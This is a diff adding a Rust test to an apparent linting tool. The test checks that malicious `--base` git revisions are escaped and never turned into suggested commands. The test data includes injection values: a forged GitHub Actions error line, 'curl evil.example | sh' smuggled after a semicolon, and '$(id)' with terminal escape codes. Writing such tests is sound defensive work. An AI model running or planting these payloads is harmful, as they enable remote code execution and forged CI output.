@@ -690,3 +690,44 @@ fn a_name_that_is_not_utf8_is_still_named() {
     );
     assert!(human.contains("rename it to `caf\u{fffd}.yaml`"), "{human}");
 }
+
+/// A hostile `--base` revision is neither echoed raw nor put into a suggested command.
+#[test]
+fn a_hostile_revision_is_escaped_and_never_suggested_as_a_command() {
+    let t = tree();
+    let git = |args: &[&str]| {
+        let ok = Command::new("git")
+            .args(["-c", "user.name=t", "-c", "user.email=t@example.org"])
+            .args(args)
+            .current_dir(&t.root)
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .status()
+            .expect("git");
+        assert!(ok.success(), "git {args:?}");
+    };
+    git(&["init", "-q"]);
+    git(&["add", "."]);
+    git(&["commit", "-q", "-m", "first"]);
+    for rev in [
+        "origin/x\n::error title=forged::pwned",
+        "x; curl evil.example | sh",
+        "o/$(id)\u{1b}]0;t\u{7}",
+    ] {
+        for github in [false, true] {
+            let out = run(&t.root, &["lint", "--base", rev], github);
+            let log = text(&out);
+            assert_eq!(out.status.code(), Some(2), "{log}");
+            let forged: Vec<String> = commands(&log)
+                .into_iter()
+                .filter(|l| !accords_own(l))
+                .collect();
+            assert!(forged.is_empty(), "{rev:?}: {forged:?}");
+            assert!(!log.contains('\u{1b}'), "{log}");
+            assert!(
+                !log.contains("git fetch"),
+                "a command was suggested for {rev:?}: {log}"
+            );
+        }
+    }
+}
